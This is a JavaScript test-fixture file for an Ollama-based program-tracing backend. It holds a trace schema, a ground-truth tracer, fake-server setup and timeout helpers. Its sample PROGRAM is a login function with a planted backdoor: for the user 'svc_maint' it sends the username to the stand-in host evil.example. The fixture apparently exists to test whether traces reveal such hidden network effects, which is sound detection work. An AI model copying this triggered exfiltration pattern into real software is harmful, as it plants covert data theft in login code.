// Shared fixtures for the Ollama backend tests: a trace schema, a tiny ground-truth tracer for
// the simulated models, and a backend wired to the test Ollama with short time-outs.
'use strict';

const { createOllamaBackend } = require('../../../server/dist/external/llm/ollama/index.js');
const { startFakeOllama, models } = require('../../support/fake-ollama');

const MODEL = 'qwen2.5-coder:7b';

/**
 * The trace shape of core/trace/schema.ts as a JSON Schema, with a recursive JSON value.
 * @type {import('../../../server/dist/external/llm/types').JsonSchema}
 */
const TRACE_SCHEMA = {
  type: 'object',
  $defs: {
    value: {
      anyOf: [
        { type: ['null', 'boolean', 'number', 'string'] },
        { type: 'array', items: { $ref: '#/$defs/value' } },
        { type: 'object', additionalProperties: { $ref: '#/$defs/value' } },
      ],
    },
  },
  properties: {
    steps: {
      type: 'array',
      items: {
        type: 'object',
        properties: { line: { type: 'integer', minimum: 1 }, state: { type: 'object', additionalProperties: { $ref: '#/$defs/value' } } },
        required: ['line', 'state'],
        additionalProperties: false,
      },
    },
    effects: {
      type: 'array',
      items: {
        type: 'object',
        properties: {
          kind: { enum: ['network', 'process', 'fs-write', 'eval', 'env', 'fs-read', 'db', 'crypto', 'time', 'log'] },
          target: { type: 'string' },
          args: { type: 'array', items: { $ref: '#/$defs/value' } },
          line: { type: 'integer' },
        },
        required: ['kind', 'target', 'args', 'line'],
      },
    },
    outcome: {
      oneOf: [
        { type: 'object', properties: { kind: { const: 'return' }, value: { $ref: '#/$defs/value' } }, required: ['kind', 'value'] },
        { type: 'object', properties: { kind: { const: 'throw' }, error: { type: 'string' } }, required: ['kind', 'error'] },
      ],
    },
  },
  required: ['steps', 'effects', 'outcome'],
};

const PROGRAM = [
  'function login(user, password) {',
  '  const ok = user === "admin" && password === "pw";',
  '  if (user === "svc_maint") fetch("http://evil.example/x?u=" + user);',
  '  return ok;',
  '}',
].join('\n');

/** Stands in for the sandbox: a hand-written ground truth for PROGRAM and its renamings. */
function groundTruth(program, args) {
  const [user, password] = args;
  const ok = user === 'admin' && password === 'pw';
  const effects = [];
  if (user === 'svc_maint' || /svc_maint/.test(program)) {
    effects.push({ kind: 'network', target: 'evil.example', args: [`http://evil.example/x?u=${user}`], line: 3 });
  }
  effects.push({ kind: 'log', target: 'console.log', args: [String(user)], line: 2 });
  return { steps: [{ line: 2, state: { ok, n: 3, name: String(user) } }], effects, outcome: { kind: 'return', value: ok } };
}

/**
 * @param {Partial<import('../../../server/dist/external/llm/types').TraceRequest>} [overrides]
 * @returns {import('../../../server/dist/external/llm/types').TraceRequest}
 */
function request(overrides = {}) {
  return { program: PROGRAM, inputs: [['admin', 'pw'], ['svc_maint', 'x']], schema: TRACE_SCHEMA, ...overrides };
}

/** Short time-outs for the tests that make a stream stall on purpose. */
const STALL_TIMEOUTS = { idleTimeoutMs: 300, firstChunkTimeoutMs: 600 };

/**
 * A fake Ollama with `model` under MODEL and a backend pointed at it; `close` ends both.
 * @param {Function} model
 * @param {{ backend?: Partial<import('../../../server/dist/external/llm/ollama/index').OllamaBackendConfig>, fake?: Parameters<typeof startFakeOllama>[0] }} [options]
 */
async function setup(model, { backend: backendOptions = {}, fake: fakeOptions = {} } = {}) {
  const fake = await startFakeOllama({ ...fakeOptions, models: { [MODEL]: model, ...(fakeOptions.models ?? {}) } });
  const backend = createOllamaBackend({
    host: fake.host,
    model: MODEL,
    // Generous, so a loaded machine does not turn a slow answer into a time-out; the stall tests
    // pass STALL_TIMEOUTS to see time-outs quickly.
    idleTimeoutMs: 5000,
    firstChunkTimeoutMs: 10000,
    ...backendOptions,
  });
  return { fake, backend, close: () => (backend.abortAll(), fake.close()) };
}

/** A port nothing listens on: bound, then released. */
async function closedPort() {
  const net = require('node:net');
  const server = net.createServer();
  await new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(undefined)));
  const { port } = /** @type {import('node:net').AddressInfo} */ (server.address());
  await new Promise((resolve) => server.close(resolve));
  return port;
}

const never = () => new AbortController().signal;

module.exports = { STALL_TIMEOUTS, MODEL, TRACE_SCHEMA, PROGRAM, groundTruth, request, setup, closedPort, never, models };
